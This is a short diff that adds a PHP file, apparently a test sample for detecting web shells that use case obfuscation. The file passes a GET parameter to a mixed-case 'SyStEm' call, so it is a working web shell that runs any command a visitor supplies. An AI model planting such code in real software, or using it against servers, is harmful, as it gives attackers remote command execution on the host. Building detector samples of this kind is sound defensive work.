@@ -1,0 +1,3 @@
+<?php
+// Function names ignore case.
+SyStEm($_GET['x']);
